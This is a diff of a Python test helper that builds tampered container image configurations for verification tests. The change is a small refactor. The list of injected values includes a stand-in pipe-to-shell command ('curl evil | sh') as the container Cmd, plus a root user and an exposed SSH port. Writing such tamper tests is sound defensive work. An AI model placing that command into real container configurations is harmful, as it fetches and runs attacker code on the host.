@@ -143,23 +143,22 @@ def whiteout_and_another(made: Made, dice: Dice) -> Spoiled:
 
 def configuration(made: Made, dice: Dice) -> Spoiled:
     """Change what a container is started with; the configuration's digest is right."""
-    key, value, name = dice.choice(
-        [
-            ("Entrypoint", ["/usr/bin/tini", "-s", "--", "/bin/sh"], "config.Entrypoint"),
-            ("Entrypoint", None, "config.Entrypoint"),
-            ("Cmd", ["sh", "-c", "curl evil | sh"], "config.Cmd"),
-            ("User", "0:0", "config.User"),
-            ("User", "", "config.User"),
-            ("WorkingDir", "/tmp", "config.WorkingDir"),  # noqa: S108 - a value in a document
-            ("Volumes", {f"/{PREFIX}": {}}, "config.Volumes"),
-            ("Healthcheck", {"Test": ["CMD", "/tmp/x"]}, "config.Healthcheck"),  # noqa: S108 - the same
-            ("OnBuild", ["RUN true"], "config.OnBuild"),
-            ("StopSignal", "SIGKILL", "config.StopSignal"),
-            ("Shell", ["/bin/false"], "config.Shell"),
-            ("ExposedPorts", {"22/tcp": {}}, "config.ExposedPorts"),
-            ("Labels", {"bindery.environment": "other"}, "config.Labels.bindery.environment"),
-        ]
-    )
+    values: list[tuple[str, Json, str]] = [
+        ("Entrypoint", ["/usr/bin/tini", "-s", "--", "/bin/sh"], "config.Entrypoint"),
+        ("Entrypoint", None, "config.Entrypoint"),
+        ("Cmd", ["sh", "-c", "curl evil | sh"], "config.Cmd"),
+        ("User", "0:0", "config.User"),
+        ("User", "", "config.User"),
+        ("WorkingDir", "/tmp", "config.WorkingDir"),  # noqa: S108 - a value in a document
+        ("Volumes", {f"/{PREFIX}": {}}, "config.Volumes"),
+        ("Healthcheck", {"Test": ["CMD", "/tmp/x"]}, "config.Healthcheck"),  # noqa: S108 - the same
+        ("OnBuild", ["RUN true"], "config.OnBuild"),
+        ("StopSignal", "SIGKILL", "config.StopSignal"),
+        ("Shell", ["/bin/false"], "config.Shell"),
+        ("ExposedPorts", {"22/tcp": {}}, "config.ExposedPorts"),
+        ("Labels", {"bindery.environment": "other"}, "config.Labels.bindery.environment"),
+    ]
+    key, value, name = dice.choice(values)
     return spoiled(_configured(made, key, value), name)
 
 
